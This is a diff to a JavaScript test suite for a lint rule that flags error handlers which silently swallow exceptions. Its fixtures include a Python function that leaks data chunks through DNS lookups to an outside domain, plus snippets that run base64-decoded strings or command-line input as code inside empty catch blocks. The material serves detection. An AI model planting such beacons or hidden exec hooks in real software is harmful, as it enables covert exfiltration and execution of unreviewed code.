@@ -14,6 +14,15 @@ describe("an error handler that does nothing", () => {
     const py = `import socket\n\ndef beacon(chunks):\n    for n, c in enumerate(chunks):\n        try:\n            socket.gethostbyname(f"{c}.{n}.t.leaguepulse.io")\n        except Exception:\n            pass\n`;
     expect(r4({ "scripts/sync.py": py })).toEqual(["scripts/sync.py:7"]);
   });
+  it("around code run from a string hides what that code tried", () => {
+    const py = `import base64\n\n_HOOK = "cHJpbnQoJ2hpJyk="\n\ndef warm():\n    try:\n        exec(base64.b64decode(_HOOK))\n    except Exception:\n        pass\n`;
+    const js = `const src = process.argv[2] || "";\ntry {\n  new Function(src)();\n} catch (_) {}\n`;
+    expect(r4({ "scripts/warm.py": py })).toEqual(["scripts/warm.py:8"]);
+    expect(r4({ "scripts/plugin.js": js })).toEqual(["scripts/plugin.js:4"]);
+    // A regex's exec is not code run from a string.
+    const re = `function first(s) {\n  try {\n    return /\\d+/.exec(s)[0];\n  } catch {}\n}\n`;
+    expect(r4({ "scripts/num.js": re })).toEqual([]);
+  });
   it("around an optional local tool is a fallback", () => {
     const py = `import subprocess\n\ndef git_diff(path):\n    try:\n        out = subprocess.run(["git", "diff", path], capture_output=True, text=True, check=True)\n        return out.stdout\n    except Exception:\n        pass\n    return None\n`;
     const js = `const readline = require("readline");\nconst rl = readline.createInterface({ input: process.stdin });\nrl.on("error", () => {});\n`;
